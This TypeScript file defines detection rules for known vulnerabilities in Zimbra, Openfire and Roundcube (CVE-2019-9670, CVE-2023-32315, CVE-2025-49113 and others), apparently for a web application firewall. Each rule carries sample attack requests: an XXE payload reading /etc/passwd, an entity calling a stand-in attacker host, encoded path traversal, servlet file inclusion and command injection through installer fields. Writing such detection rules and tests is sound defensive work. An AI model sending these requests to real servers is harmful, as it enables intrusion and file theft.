import { filePost, formPost, get, send, xmlPost } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  fieldMatches,
  pathHas,
  queryHas,
  rawPathHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

export const mailRules = [
  detection({
    ref: 'managed-zimbra-mailbox-import',
    description:
      'Zimbra: unpacks an archive of a mailbox as a script (CVE-2022-27925, CVE-2022-37042)',
    categories: [
      'zimbra',
      'file-upload',
      'directory-traversal',
      'remote-code-execution',
      'cve-2022-27925',
      'cve-2022-37042',
    ],
    expression: pathHas('/service/extension/backup/mboximport'),
    matching: [
      send(
        'POST',
        '/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1',
        'application/zip',
        'PK',
      ),
      get('/service/extension/backup/mboximport'),
    ],
    other: [get('/service/home/~/?fmt=tgz'), get('/zimbra/')],
  }),
  detection({
    ref: 'managed-zimbra-entity',
    description: 'Zimbra: reads files with XML entities in Autodiscover (CVE-2019-9670)',
    categories: ['zimbra', 'xxe', 'cve-2019-9670'],
    expression: allOf(pathHas('/autodiscover'), bodyHas('<!entity', '<!doctype')),
    matching: [
      xmlPost(
        '/Autodiscover/Autodiscover.xml',
        '<!DOCTYPE xxe [<!ENTITY x SYSTEM "file:///etc/passwd">]><Autodiscover><Request><AcceptableResponseSchema>&x;</AcceptableResponseSchema></Request></Autodiscover>',
      ),
      xmlPost('/autodiscover', '<!DOCTYPE a SYSTEM "http://attacker.test"><a/>'),
    ],
    other: [
      xmlPost(
        '/Autodiscover/Autodiscover.xml',
        '<Autodiscover><Request><EMailAddress>ada@example.com</EMailAddress></Request></Autodiscover>',
      ),
      get('/autodiscover/autodiscover.xml'),
    ],
  }),
  detection({
    ref: 'managed-zimbra-include',
    description: 'Zimbra: includes a file that attributes of a request name (CVE-2025-68645)',
    categories: ['zimbra', 'file-inclusion', 'cve-2025-68645'],
    expression: allOf(
      queryHas('javax.servlet.include', 'jakarta.servlet.include', 'javax%2eservlet'),
      pathHas('/h/', '/'),
    ),
    matching: [
      get('/h/rest?javax.servlet.include.servlet_path=/WEB-INF/web.xml'),
      get('/h/rest?x=1&javax.servlet.include.path_info=a'),
    ],
    other: [get('/h/search?q=javax'), get('/docs?topic=servlet.include')],
  }),
  detection({
    ref: 'managed-openfire-setup',
    description:
      'Openfire: reaches the console through encoded dots of the set-up (CVE-2023-32315)',
    categories: ['openfire', 'directory-traversal', 'authentication-bypass', 'cve-2023-32315'],
    expression: allOf(rawPathHas('/setup/setup-'), rawPathHas('%u002e', '%2e%2e', '../', '..%2f')),
    matching: [
      get('/setup/setup-s/%u002e%u002e/%u002e%u002e/user-create.jsp'),
      get('/setup/setup-/../../log.jsp'),
    ],
    other: [get('/setup/setup-host-settings.jsp'), get('/login.jsp')],
  }),
  detection({
    ref: 'managed-roundcube-upload-object',
    description: 'Roundcube: a serialised object in the name of an upload (CVE-2025-49113)',
    categories: ['php', 'roundcube', 'deserialization', 'remote-code-execution', 'cve-2025-49113'],
    expression: allOf(
      queryHas('_from='),
      queryHas('_action=upload'),
      fieldMatches('_from', '[!|;"{]'),
    ),
    matching: [
      filePost(
        '/?_task=settings&_remote=1&_from=edit-!xxx&_id=&_uploadid=upload1&_action=upload',
        'x',
      ),
      filePost('/roundcube/?_task=settings&_action=upload&_from=edit-%7Cx', 'a.png'),
    ],
    other: [
      filePost('/?_task=settings&_remote=1&_from=edit-identity&_id=1&_action=upload', 'photo.png'),
      get('/?_task=mail&_from=compose!'),
    ],
  }),
  detection({
    ref: 'managed-roundcube-set-up',
    description: 'Roundcube: changes programs that it runs, with the installer (CVE-2020-12641)',
    categories: ['php', 'roundcube', 'command-injection', 'cve-2020-12641'],
    expression: allOf(
      pathHas('/installer/'),
      anyOf(
        fieldMatches('_im_convert_path', '[ ;|`&$]'),
        fieldMatches('_im_identify_path', '[ ;|`&$]'),
      ),
    ),
    matching: [
      formPost('/roundcube/installer/index.php', { _step: '2', _im_convert_path: 'php -r "x" #' }),
      formPost('/installer/index.php', { _im_identify_path: '`id`' }),
    ],
    other: [
      formPost('/roundcube/installer/index.php', {
        _step: '2',
        _im_convert_path: '/usr/bin/convert',
      }),
      get('/installer/'),
    ],
  }),
];
